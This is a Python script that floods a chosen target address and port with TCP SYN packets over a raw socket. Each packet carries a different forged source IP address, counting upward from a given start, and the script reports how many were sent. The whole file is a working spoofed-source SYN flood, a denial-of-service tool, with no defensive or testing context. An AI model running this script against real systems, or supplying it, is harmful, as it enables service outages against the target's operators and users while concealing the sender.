"""SYN packets from invented addresses, each from another one, at the rate that a raw socket gives.

Prints one row: how many were sent.
"""

import argparse
import json
import socket
import struct

SOURCE_PORT = 40000


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def main() -> None:
    arguments = argparse.ArgumentParser()
    arguments.add_argument("--address", required=True)
    arguments.add_argument("--port", type=int, required=True)
    arguments.add_argument("--first-source", required=True, help="the next ones follow it")
    arguments.add_argument("--count", type=int, required=True)
    options = arguments.parse_args()
    target = socket.inet_aton(options.address)
    first = struct.unpack("!I", socket.inet_aton(options.first_source))[0]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    # The kernel fills in the checksum and the id of the IP header.
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0)
    tcp = struct.pack("!HHIIBB", SOURCE_PORT, options.port, 1000, 0, 5 << 4, 0x02)
    for number in range(first, first + options.count):
        source = struct.pack("!I", number)
        pseudo = source + target + struct.pack("!HH", socket.IPPROTO_TCP, 20)
        body = tcp + struct.pack("!HHH", 64240, checksum(pseudo + tcp + struct.pack("!HHH", 64240, 0, 0)), 0)
        raw.sendto(ip + source + target + body, (options.address, 0))
    print(json.dumps({"sent": options.count}))


main()
